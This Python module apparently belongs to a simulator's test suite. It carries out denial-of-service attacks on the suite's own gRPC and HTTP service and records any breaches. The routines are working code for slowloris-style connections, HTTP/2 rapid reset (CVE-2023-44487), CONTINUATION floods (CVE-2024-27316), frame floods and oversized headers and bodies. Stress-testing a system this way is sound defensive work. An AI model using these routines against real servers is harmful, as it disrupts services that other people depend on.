"""What costs a server something before it knows who calls: connections, handshakes, streams, and requests that never
end. Called by `attacker.py`.

Each is bounded as one machine of a stranger is: so many at once, so many a second.
"""

from __future__ import annotations

import socket
import ssl
import struct
from collections import deque
from collections.abc import Callable, Sequence
from random import Random

from simulator.studies.attack.findings import Finding
from simulator.studies.attack.names import KNOWN_DECISIONS, OWN, VICTIM, Aim, Identity, leaks
from simulator.studies.attack.sockets import REFUSED, close, connect, context_of, read_some, send
from simulator.studies.load import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    control,
    frames,
    opening,
)

DECIDE = "/decider.v1.DeciderService/Decide"
HEALTH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
PATHS = (DECIDE, HEALTH, REFLECTION, "/decider.v1.ExperimentService/ListExperiments")

Attack = Callable[["Wire", Random], str]
"""What it does with a step, and how that went."""


class Held:
    """Connections that stay open; at most so many, then the oldest is closed."""

    def __init__(self, most: int) -> None:
        self._most = most
        self._open: deque[socket.socket] = deque()

    def add(self, connection: socket.socket) -> None:
        """One more."""
        self._open.append(connection)
        while len(self._open) > self._most:
            close(self._open.popleft())

    def touch(self, data: bytes) -> None:
        """Send this over each, as far as they are open."""
        for connection in [*self._open]:
            connection.settimeout(0)
            send(connection, data)

    def close(self) -> None:
        """All of them."""
        while self._open:
            close(self._open.popleft())


class Wire:
    """Runs one of the attacks below, or of `wire_web.py`, with each step. most: connections that it keeps open. own:
    the stranger with most of its own, so that what it sends is read at all. begun, good: for an attack that counts,
    see `call_too_often`."""

    def __init__(self, name: str, attack: Attack, aim: Aim, *, most: int = 0) -> None:
        self.name, self.aim = name, aim
        self._attack = attack
        joining = next(one for one in aim.identities if one.joins)
        self.joining: Identity = joining
        self.grpc = context_of(aim.ca, joining.cert, joining.key, protocol="h2")
        self.http = context_of(aim.ca)
        own = [one for one in aim.identities if OWN in one.experiments]
        self.own: Identity = max(own, key=lambda one: len(one.roles)) if own else joining
        self.web = context_of(aim.ca, self.own.cert, self.own.key)
        self.held = Held(most)
        self.begun, self.good = 0.0, 0
        self._breaches: list[str] = []

    def found(self, breach: str) -> None:
        """What must not be."""
        self._breaches.append(breach)

    def step(self, random: Random) -> Finding:
        """One more of it."""
        try:
            outcome = self._attack(self, random)
        except REFUSED as error:
            outcome = type(error).__name__
        found, self._breaches = self._breaches, []
        breach = "holds what is the victim's" if leaks(self.aim.secret, [outcome]) else "; ".join(found)
        return Finding(self.name, self.joining.name, self.name, "breach" if breach else outcome[:40], breach)

    def cards(self) -> Sequence[tuple[str, str]]:
        """There is one."""
        return [(self.joining.name, self.name)]

    def drop(self) -> None:
        """Close what is open."""
        self.held.close()

    def any_port(self, random: Random) -> tuple[str, ssl.SSLContext]:
        """Of the three, with what TLS needs there."""
        return random.choice(((self.aim.target, self.grpc), (self.aim.http, self.http), (self.aim.web, self.web)))

    def any_http(self, random: Random) -> socket.socket:
        """A connection to one of the ports that speak HTTP/1.1."""
        at_web = random.random() < 0.5
        return connect(self.aim.web if at_web else self.aim.http, self.web if at_web else self.http)

    def http2(self, settings: bytes | None = None) -> socket.socket:
        """A connection to gRPC's port, opened as HTTP/2 wants it."""
        connection = connect(self.aim.target, self.grpc)
        connection.sendall(opening() if settings is None else PREFACE + control(SETTINGS, 0, settings))
        return connection


def _answered(connection: socket.socket, seconds: float = 0.5) -> str:
    data = read_some(connection, seconds)
    return data.decode("latin-1") if VICTIM.encode() in data else f"{bool(data)}"


def shake_hands(wire: Wire, random: Random) -> str:
    """TLS, and nothing behind it."""
    address, context = wire.any_port(random)
    connect(address, context).close()
    return "done"


def stay_silent(wire: Wire, random: Random) -> str:
    """A connection of which nothing comes, not even a handshake; or half of one."""
    connection = connect(random.choice((wire.aim.target, wire.aim.http, wire.aim.web)))
    if random.random() < 0.5:
        send(connection, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    wire.held.add(connection)
    return "held"


def stay_idle(wire: Wire, random: Random) -> str:
    """A handshake, then nothing."""
    address, context = wire.any_port(random)
    wire.held.add(connect(address, context))
    return "held"


def send_bytes(wire: Wire, random: Random) -> str:
    """Random ones, before the handshake or behind it."""
    address, context = wire.any_port(random)
    with connect(address, context if random.random() < 0.5 else None) as connection:
        send(connection, random.randbytes(random.choice((1, 9, 500, 20_000))))
        return _answered(connection)


def open_calls(wire: Wire, random: Random) -> str:
    """Headers of calls, whose requests never come."""
    connection = wire.http2()
    heads = b"".join(_head(random.choice(PATHS), stream) for stream in range(1, 81, 2))
    send(connection, heads)
    wire.held.add(connection)
    return "held"


def watch(wire: Wire, random: Random) -> str:
    """Streams of health and reflection, as many as HTTP/2 lets open."""
    connection = wire.http2()
    for stream in range(1, 161, 2):
        send(connection, _call(random.choice((HEALTH, HEALTH, REFLECTION)), b"", stream))
    wire.held.add(connection)
    return "held"


def reset_rapidly(wire: Wire, random: Random) -> str:
    """Streams that are opened and given up at once (CVE-2023-44487)."""
    with wire.http2() as connection:
        for first in range(1, 401, 40):
            burst = [
                _call(random.choice(PATHS), b"\x0a\x06" + VICTIM.encode(), stream)
                + control(RST_STREAM, 0, struct.pack(">I", 8), stream)
                for stream in range(first, first + 40, 2)
            ]
            send(connection, b"".join(burst))
        return _answered(connection)


def flood(wire: Wire, random: Random) -> str:
    """Frames that have to be answered or looked at, and cost nothing to send."""
    one = random.choice(
        (
            control(PING, 0, b"12345678"),
            control(SETTINGS, 0, struct.pack(">HI", 3, 100)),
            control(WINDOW_UPDATE, 0, struct.pack(">I", 1)),
            control(DATA, 0, b"", 1),
            control(99, 0, b"x" * 100),
        )
    )
    with wire.http2() as connection:
        send(connection, _head(DECIDE, 1))
        send(connection, one * 2_000)
        return _answered(connection)


def never_end_headers(wire: Wire, random: Random) -> str:
    """HEADERS without their end, and CONTINUATION for ever (CVE-2024-27316)."""
    more = b"\x00" + bytes([1]) + b"a" + bytes([100]) + b"b" * 100
    with wire.http2() as connection:
        send(connection, control(HEADERS, 0, b"\x83\x86", 1))
        send(connection, control(CONTINUATION, 0, more * 100, 1) * random.choice((1, 20, 100)))
        return _answered(connection)


def take_nothing(wire: Wire, random: Random) -> str:
    """Calls, of whose answers not a byte may be sent."""
    connection = wire.http2(struct.pack(">HI", 4, 0))
    for stream in range(1, 61, 2):
        send(connection, _call(random.choice(PATHS), b"", stream))
    wire.held.add(connection)
    return "held"


def send_large(wire: Wire, random: Random) -> str:
    """Requests and headers beyond what is taken, over gRPC."""
    with wire.http2() as connection:
        if random.random() < 0.5:
            send(connection, _head(DECIDE, 1) + control(DATA, 0, b"\0" + struct.pack(">I", 2**31 - 1), 1))
            send(connection, control(DATA, 0, b"x" * 16_000, 1) * 4)  # as much as the window takes
        else:
            long = b"\x00\x01a" + b"\x7f" + _integer(12_000 - 127) + b"b" * 12_000
            send(connection, control(HEADERS, END_HEADERS | END_STREAM, b"\x83\x86" + long, 1))
        return _answered(connection)


def flood_headers(wire: Wire, random: Random) -> str:
    """Many headers, long ones, and long first lines, over HTTP."""
    text = random.choice(
        (
            "".join(f"a{number}: b\r\n" for number in range(5_000)),
            f"a: {'b' * 200_000}\r\n",
            "a: b\r\n" * 20_000,
        )
    )
    line = random.choice(("GET /metrics HTTP/1.1", f"GET /{'a' * 100_000} HTTP/1.1", "GET /metrics"))
    with wire.any_http(random) as connection:
        send(connection, f"{line}\r\n{text}\r\n".encode())
        return _answered(connection)


def send_body(wire: Wire, random: Random) -> str:
    """Bodies that are longer than any that is taken, or than what is said of them, over HTTP."""
    path = random.choice((f"/experiments/{VICTIM}", "/metrics", "/healthz", f"/decisions/{KNOWN_DECISIONS[0]}"))
    said = random.choice(("Content-Length: 99999999999", "Transfer-Encoding: chunked", "Content-Length: 3000000"))
    with wire.any_http(random) as connection:
        send(connection, f"POST {path} HTTP/1.1\r\nHost: a\r\n{said}\r\n\r\n".encode())
        piece = b"x" * 65_000
        for _ in range(40):
            send(connection, b"fde8\r\n" + piece + b"\r\n" if "chunked" in said else piece)
        return _answered(connection)


def trickle(wire: Wire, random: Random) -> str:
    """Requests that come a byte now and then, over HTTP; heads or bodies."""
    connection = wire.any_http(random)
    head = "POST /metrics HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\n"
    send(connection, random.choice((head, "GET /metrics HTTP/1.1\r\na")).encode())
    wire.held.add(connection)
    wire.held.touch(b"a")
    return "held"


def read_slowly(wire: Wire, random: Random) -> str:
    """Many requests at once, whose answers nobody reads."""
    connection = wire.any_http(random)
    paths = random.choices(("/healthz", "/readyz", "/metrics", f"/experiments/{VICTIM}"), k=50)
    send(connection, "".join(f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n" for path in paths).encode())
    wire.held.add(connection)
    return "held"


def _head(path: str, stream: int) -> bytes:
    before, block, _ = frames(path, b"").pieces  # the block has the head of the DATA frame behind it
    return before + stream.to_bytes(4, "big") + block[:-5]


def _call(path: str, message: bytes, stream: int) -> bytes:
    return stream.to_bytes(4, "big").join(frames(path, message).pieces)


def _integer(value: int) -> bytes:
    """The rest of an integer of HPACK, behind a full prefix."""
    found = bytearray()
    while value >= 128:
        found.append(value % 128 + 128)
        value //= 128
    found.append(value)
    return bytes(found)
